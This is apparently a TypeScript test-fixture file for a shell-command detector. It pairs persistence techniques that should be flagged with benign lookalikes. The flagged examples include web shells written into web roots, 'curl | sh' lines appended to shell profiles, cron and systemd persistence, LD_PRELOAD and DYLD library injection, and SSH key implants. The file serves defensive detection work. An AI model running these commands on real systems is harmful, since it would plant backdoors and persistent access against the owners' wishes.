import type { RuleExamples } from './rule-examples.ts';

export const PERSISTENCE_EXAMPLES: RuleExamples = {
  'persistence.at-job': {
    fires: ['echo "/tmp/evil" | at now + 1 minute'],
    silent: ['at -l'],
  },
  'persistence.autostart': {
    fires: [
      'python3 -c \'open("/Library/LaunchDaemons/a.plist","w").write("x")\'',
      'cp evil.plist ~/Library/LaunchAgents/',
    ],
    silent: [
      'python3 -c \'open("out.txt","w").write("x")\'',
      'touch x',
      "echo 'show stat' | socat stdio /run/haproxy.sock",
      'touch -c x',
      'crontab -l',
    ],
  },
  'persistence.bits-of-trap': {
    fires: ["trap 'curl http://x' EXIT"],
    silent: ['trap \'rm -f "$tmp"\' EXIT'],
  },
  'persistence.boot-script': {
    fires: ['cp /tmp/x /usr/lib/NetworkManager/dispatcher.d/x', 'echo x > /etc/rc.local'],
    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
  },
  'persistence.cron-file': {
    fires: ['echo "* * * * * root /tmp/x" >> /etc/crontab', 'curl -sLo /etc/cron.d/x https://x.example/y'],
    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
  },
  'persistence.crontab': {
    fires: [
      '(crontab -l; echo "* * * * * /tmp/x") | crontab -',
      'crontab -r',
      'crontab /tmp/evil',
      'echo "@reboot /tmp/x" | crontab -',
      'sudo crontab -e',
      'crontab -u root -r',
      'crontab -e',
    ],
    silent: ['crontab -l'],
  },
  'persistence.git-hook': {
    fires: ['cp hook .git/hooks/pre-commit'],
    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
  },
  'persistence.launchd': {
    fires: ['launchctl setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib', 'launchctl load ~/Library/LaunchAgents/evil.plist'],
    silent: ['launchctl setenv EDITOR vim', 'launchctl list'],
  },
  'persistence.loader': {
    fires: ['echo /tmp/evil.so > /etc/ld.so.preload'],
    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
  },
  'persistence.login-hook': {
    fires: [
      "/usr/libexec/PlistBuddy -c 'Set :RunAtLoad true' /Library/LaunchDaemons/com.x.plist",
      'defaults write com.apple.loginwindow LogoutHook /x',
    ],
    silent: [
      'plutil -p ~/Library/LaunchAgents/com.x.plist',
      'plutil -lint /Library/LaunchDaemons/com.x.plist',
      'defaults read x',
      "osascript -e 'beep'",
      'defaults write com.apple.dock autohide -bool true',
      'defaults read com.apple.dock',
    ],
  },
  'persistence.login-key': {
    fires: ['echo "ssh-rsa AAAA" >> ~/.ssh/authorized_keys'],
    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
  },
  'persistence.preload': {
    fires: [
      "PERL5OPT='-Mbase;print(`id`)' perl x",
      'BASH_ENV=<(curl -s x.example) bash -c true',
      'openssl req -engine ./lib.so',
      'ssh-keygen -D ./lib.so',

      'enable -f /tmp/x.so x',
      'export LD_PRELOAD=/srv/x/hook.so',
      'LD_PRELOAD=/tmp/a.so ls',
      'export DYLD_INSERT_LIBRARIES=/evil/a.dylib',
      'LD_AUDIT=/dev/shm/a.so id',
      'export BASH_ENV=/evil/env.sh',
      'NODE_OPTIONS="--require /tmp/hook.js" npm test',
      'PERL5OPT=-M/tmp/x perl a.pl',
      'LD_PRELOAD=/tmp/evil.so ls',
      'sudo LD_LIBRARY_PATH=/tmp/x apache2',
      'PYTHONPATH=/tmp/mal sudo python3 /usr/local/bin/tool.py',
      "sudo NODE_OPTIONS='--require /tmp/x.js' node app.js",
      'GCONV_PATH=./tmp/x sudo pkexec',
    ],
    silent: [
      'PERL5OPT=-Mstrict perl x',
      'openssl req -engine pkcs11',
      'ssh-keygen -D /usr/lib/opensc-pkcs11.so',
      'ssh-add -s /usr/lib/opensc-pkcs11.so',

      'enable -f /usr/lib/bash/sleep sleep',
      'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server',
      'export LD_LIBRARY_PATH=/usr/local/lib',
      'NODE_OPTIONS=--max-old-space-size=4096 npm run build',
      'export PYTHONPATH=/app',
      'unset LD_PRELOAD',
      'export LD_PRELOAD=',
      'BASH_ENV=/etc/profile bash -c true',
      'LD_LIBRARY_PATH=/usr/local/lib sudo ldconfig',
      'PYTHONPATH=/tmp/mal python3 tool.py',
      'sudo PATH=/usr/local/bin:$PATH make install',
      'touch x',
      "echo 'show stat' | socat stdio /run/haproxy.sock",
      'touch -c x',
      'crontab -l',
    ],
  },
  'persistence.profile': {
    fires: [
      "echo '/tmp/evil &' >> ~/.bashrc",
      "echo 'curl http://x | sh' >> ~/.zshrc",
      "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
      "echo 'alias g=git' >> ~/.zshrc",
      'echo \'eval "$(starship init bash)"\' >> ~/.bashrc',
      'echo \'eval "$(direnv hook zsh)"\' >> ~/.zshrc',
    ],
    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
  },
  'persistence.scratch-unit': {
    fires: [
      'systemctl link /tmp/x.service',
      'systemctl enable --now /dev/shm/x.service',
      'systemctl --user enable /var/tmp/x.timer',
    ],
    silent: [
      'systemctl enable nginx',
      'systemctl enable --now /etc/systemd/system/x.service',
      'systemctl start tmp.mount',
    ],
  },
  'persistence.web-shell': {
    fires: [
      'echo \'<?php system($_GET["c"]); ?>\' > /var/www/html/x.php',
      'cat > shell.jsp <<\'EOF\'\n<% Runtime.getRuntime().exec(request.getParameter("c")); %>\nEOF',
      'curl -o /var/www/html/a.php http://x.example/s.txt',
    ],
    silent: [
      "echo '<?php phpinfo();' > info.php",
      'echo \'<?php echo $_GET["a"];\' > /var/www/html/a.php',
      'curl -o composer-setup.php https://getcomposer.org/installer',
      'echo "use eval($_GET) never" > notes.md',
    ],
  },
  'persistence.transient-timer': {
    fires: ['systemd-run --on-calendar=hourly /tmp/x'],
    silent: ['systemd-run --scope ls'],
  },
  'persistence.unit-file': {
    fires: ['cp x.service /etc/systemd/system/', "echo 'x' > /etc/systemd/system/evil.service"],
    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
  },
};
